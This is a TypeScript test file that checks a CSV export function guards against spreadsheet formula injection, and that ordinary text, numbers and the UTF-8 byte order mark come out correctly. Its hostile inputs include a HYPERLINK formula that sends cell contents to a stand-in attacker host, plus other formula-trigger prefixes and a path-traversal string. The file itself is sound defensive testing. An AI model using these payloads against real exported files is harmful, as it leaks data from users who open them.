import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvByteOrderMark, csvRecord } from '@/lib/csv'

/** A reader of its own, straight from RFC 4180. */
function parse(text: string): string[][] {
  const records: string[][] = []
  let at = 0
  while (at < text.length) {
    const record: string[] = []
    for (;;) {
      let value = ''
      if (text[at] === '"') {
        for (at += 1; ; at += 1) {
          if (text[at] !== '"') value += text[at]
          else if (text[at + 1] === '"') value += text[(at += 1)]
          else break
        }
        at += 1
      } else while (!/[,\r\n"]/.test(text[at] ?? ',')) value += text[at++]
      record.push(value)
      if (text[at] !== ',') break
      at += 1
    }
    expect(text.slice(at, at + 2)).toBe('\r\n')
    at += 2
    records.push(record)
  }
  return records
}

describe('CSV', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example?x="&A1,"click")',
      `'=HYPERLINK("http://evil.example?x="&A1,"click")`,
    ],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['\n=1', "'\n=1"],
    ['  =1', "'  =1"],
    ['\u00a0=1', "'\u00a0=1"],
    ['＝1+1', "'＝1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
  ])('makes %j harmless', (hostile, inert) => {
    expect(parse(csvRecord([hostile, 'next']))).toEqual([[inert, 'next']])
  })

  it.each([
    'plain',
    '茶馆，夜',
    'a, b',
    'said "即将开业"',
    'line\r\nline\nline\rline',
    '\u202eright to left',
    '🍵'.repeat(300),
    '../../etc/passwd',
    'a=b',
    '5 - 3',
    ' leading and trailing ',
    '',
  ])('keeps %j as it is', (text) => {
    expect(parse(csvRecord([text, text]))).toEqual([[text, text]])
  })

  it('writes numbers bare and nothing for null', () => {
    expect(csvRecord([12, null, 0.5, 'x'])).toBe('12,,0.5,x\r\n')
  })

  it('ends every record, and reads back whatever is written', () => {
    const text = fc.string({ unit: 'binary' })
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 5 })), (rows) => {
        const read = parse(rows.map((row) => csvRecord(row)).join(''))
        expect(read.map((row) => row.map((cell) => cell.replace(/^'/, '')))).toEqual(
          rows.map((row) => row.map((cell) => cell.replace(/^'/, ''))),
        )
        for (const cell of read.flat()) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/)
      }),
    )
  })

  it('begins with the mark that makes spreadsheets read UTF-8', () => {
    expect(new TextEncoder().encode(csvByteOrderMark)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]))
  })
})
